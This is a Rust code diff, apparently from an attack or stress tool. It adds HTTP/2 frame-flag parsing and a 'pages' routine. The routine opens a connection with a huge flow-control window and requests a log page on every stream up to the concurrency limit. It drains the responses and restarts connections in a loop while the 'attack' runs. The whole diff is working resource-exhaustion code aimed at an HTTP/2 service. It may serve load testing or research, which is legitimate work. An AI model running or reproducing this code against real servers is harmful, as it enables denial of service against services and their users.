@@ -61,6 +61,11 @@ impl Connection {
 
     /// Reads a frame and says on the connection what has to be said; returns its kind.
     fn take(&mut self) -> Result<u8> {
+        self.take_frame().map(|(kind, _)| kind)
+    }
+
+    /// The same with the frame's flags; those of frames that have no stream are left out.
+    fn take_frame(&mut self) -> Result<(u8, u8)> {
         let mut head = [0; 9];
         self.stream.read_exact(&mut head)?;
         let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
@@ -78,7 +83,8 @@ impl Connection {
             GOAWAY => return Err(ErrorKind::ConnectionAborted.into()),
             _ => {}
         }
-        Ok(kind)
+        let of_stream = matches!(kind, DATA | HEADERS);
+        Ok((kind, if of_stream { flags } else { 0 }))
     }
 
     /// Posts a body, as fast as the service takes it.
@@ -187,6 +193,43 @@ fn take_no_answers(attack: &Attack<'_>, body: &[u8]) -> Result<()> {
         match connection.take() {
             Err(error) if !quiet(&error) => return Err(error),
             _ => {}
+        }
+    }
+    Ok(())
+}
+
+/// Asks for a page of the log on every stream of one connection, and takes all that comes.
+pub fn pages(attack: &Attack<'_>) {
+    let page = [
+        (":method", "GET"),
+        (":path", super::greed::PAGE),
+        (":scheme", "http"),
+        (":authority", "s"),
+    ];
+    while attack.goes_on() {
+        // It may be ended at any point, and then is begun anew.
+        let _ = take_pages(attack, &page);
+    }
+}
+
+fn take_pages(attack: &Attack<'_>, page: &[(&str, &str)]) -> Result<()> {
+    const WINDOW: u32 = 1 << 30;
+    let mut connection = Connection::open(attack.target, WINDOW)?;
+    connection.send(WINDOW_UPDATE, 0, 0, &WINDOW.to_be_bytes())?;
+    let mut open = 0;
+    for stream in streams() {
+        connection.head(stream, END_STREAM, page)?;
+        open += 1;
+        while open == STREAMS && attack.goes_on() {
+            let taken = connection.take_frame();
+            match taken {
+                Ok((_, flags)) if flags & END_STREAM != 0 => open -= 1,
+                Err(error) if !quiet(&error) => return Err(error),
+                _ => {}
+            }
+        }
+        if !attack.goes_on() {
+            break;
         }
     }
     Ok(())
